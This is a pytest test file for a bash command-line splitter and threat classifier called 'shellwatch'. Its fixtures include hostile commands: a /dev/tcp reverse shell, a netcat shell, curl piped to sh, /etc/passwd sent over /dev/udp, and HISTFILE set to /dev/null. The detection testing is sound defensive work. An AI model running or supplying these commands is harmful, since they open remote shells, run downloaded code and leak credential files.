"""Splitting bash lines: chains, pipes, substitutions, redirections, quotes and the fallback."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shellwatch.cmdline import analyze, guess_shell, segments_as_fields
from shellwatch.cmdline.bash import _fallback, split_bash


def texts(line: str) -> list[str]:
    return [s.text for s in split_bash(line)]


def test_chain_operators() -> None:
    segments = split_bash("a && b || c; d & e\nf")
    assert [s.command for s in segments] == ["a", "b", "c", "d", "e", "f"]
    assert [s.operator for s in segments] == ["&&", "||", ";", "&", "\n", ""]


def test_pipes() -> None:
    segments = split_bash("ps aux | grep x | wc -l")
    assert [s.command for s in segments] == ["ps", "grep", "wc"]
    assert [s.operator for s in segments] == ["|", "|", ""]
    assert segments[2].argv == ("wc", "-l")


def test_command_substitution_is_nested() -> None:
    segments = split_bash("echo $(curl -s x | sh) `id`")
    assert [(s.command, s.depth) for s in segments] == [("echo", 0), ("curl", 1), ("sh", 1), ("id", 1)]
    assert segments[1].operator == "|"


def test_process_substitution_is_nested() -> None:
    segments = split_bash("diff <(ls a) <(ls b)")
    assert [(s.command, s.depth) for s in segments] == [("diff", 0), ("ls", 1), ("ls", 1)]


def test_redirections_are_kept() -> None:
    (segment,) = split_bash("bash -i >& /dev/tcp/1.2.3.4/80 0>&1")
    assert segment.argv == ("bash", "-i")
    assert segment.redirections == (">& /dev/tcp/1.2.3.4/80", "0>&1")


def test_redirection_does_not_split() -> None:
    segments = split_bash("make >out.log 2>&1 && echo done")
    assert [s.command for s in segments] == ["make", "echo"]
    assert segments[0].redirections == (">out.log", "2>&1")


@pytest.mark.parametrize(
    "line",
    ["echo 'a && b | c; d'", 'echo "a && b | c; d"', r"echo a\;b\|c", "grep -E 'x|y' f"],
)
def test_operators_inside_quotes_do_not_split(line: str) -> None:
    assert len(split_bash(line)) == 1


def test_assignments_are_not_the_command() -> None:
    (segment,) = split_bash("HISTFILE=/dev/null ls -la")
    assert segment.command == "ls"
    assert segment.argv[0] == "HISTFILE=/dev/null"


def test_bash_c_body_is_nested() -> None:
    segments = split_bash("bash -c 'curl x | sh'")
    assert [(s.command, s.depth) for s in segments] == [("bash", 0), ("curl", 1), ("sh", 1)]


def test_fallback_when_bashlex_fails() -> None:
    line = "x=$(( 1 + 2 )); [[ -f /tmp/a ]] && echo 'a;b' | sh"
    segments = split_bash(line)
    assert [s.command for s in segments][-2:] == ["echo", "sh"]
    assert segments[-2].operator == "|"


@pytest.mark.parametrize(
    "line",
    [
        "a && b | c; d",
        "echo $(curl x | sh) `id` > /tmp/x 2>&1",
        "cat <(ls) >> f",
        "echo 'a && b' ; ls",
        "bash -i >& /dev/tcp/1.2.3.4/80 0>&1",
    ],
)
def test_fallback_agrees_with_bashlex(line: str) -> None:
    assert [(s.command, s.operator, s.depth) for s in _fallback(line, 0)] == [
        (s.command, s.operator, s.depth) for s in split_bash(line)
    ]


def test_fallback_keeps_redirections() -> None:
    (segment,) = _fallback("cat /etc/passwd > /dev/udp/10.0.0.1/53", 0)
    assert segment.redirections == ("> /dev/udp/10.0.0.1/53",)


@pytest.mark.parametrize("line", ["", "   ", "'unterminated", "$(", "`", "echo ${", "((", "<<", "a |", "| b"])
def test_broken_input_never_raises(line: str) -> None:
    analyze(line, "bash")


def test_guess_shell() -> None:
    assert guess_shell("ls -la /tmp | grep x") == "bash"
    assert guess_shell("Get-Process | Where-Object { $_.CPU -gt 1 }") == "powershell"
    assert guess_shell("dir %TEMP% & whoami /all") == "cmd"
    assert guess_shell("anything", "C:\\Windows\\System32\\cmd.exe") == "cmd"
    assert guess_shell("anything", "/usr/bin/pwsh") == "powershell"
    assert guess_shell("anything", "/bin/bash") == "bash"


def test_segments_as_fields() -> None:
    fields = segments_as_fields(analyze("curl -s http://x | bash", "bash"))
    assert fields["shellwatch.command.segments"] == ["curl -s http://x", "bash"]
    assert fields["shellwatch.command.segment_commands"] == ["curl", "bash"]
    assert fields["shellwatch.command.segment_operators"] == ["|", ""]
    assert fields["shellwatch.command.segment_verdicts"] == ["malicious", "suspicious"]
    assert "download-to-interpreter" in fields["shellwatch.command.findings"]
    assert len(fields["shellwatch.command.finding_reasons"]) == len(fields["shellwatch.command.findings"])
    assert fields["shellwatch.command.verdict"] == "malicious"
    for key, value in fields.items():
        assert key.startswith("shellwatch.command.")
        assert isinstance(value, str) or all(isinstance(v, str) for v in value)


def test_analysis_is_cached() -> None:
    assert analyze("ls -la", "bash") is analyze("ls -la", "bash")


def test_one_verdict_per_segment() -> None:
    analysis = analyze("ls; nc -e /bin/sh 1.2.3.4 1; echo $(id)", "bash")
    assert len(analysis.verdicts) == len(analysis.segments)
    assert analysis.verdicts[0] == "benign"
    assert analysis.verdicts[1] == "malicious"


@given(st.text(max_size=200), st.sampled_from(["bash", "cmd", "powershell", None]))
def test_random_text_never_raises(text: str, shell: str | None) -> None:
    analysis = analyze(text, shell)
    assert len(analysis.verdicts) == len(analysis.segments)
    assert analysis.verdict in {"benign", "suspicious", "malicious"}


@given(st.text(alphabet="ab |&;<>()$`'\"\\\n{}#=-/", max_size=80))
def test_random_shell_syntax_never_raises(text: str) -> None:
    split_bash(text)
    _fallback(text, 0)
